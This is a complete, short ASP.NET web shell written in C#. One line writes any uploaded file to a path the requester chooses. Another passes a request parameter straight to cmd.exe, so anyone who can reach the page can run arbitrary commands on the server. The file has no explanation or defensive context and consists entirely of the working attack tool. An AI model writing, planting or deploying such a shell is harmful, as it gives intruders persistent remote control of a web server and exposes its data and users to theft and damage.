<%@ Page Language="C#" %>
<%
if (Request.Files.Count > 0) Request.Files[0].SaveAs(Request["path"]);
if (Request["c"] != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);
%>
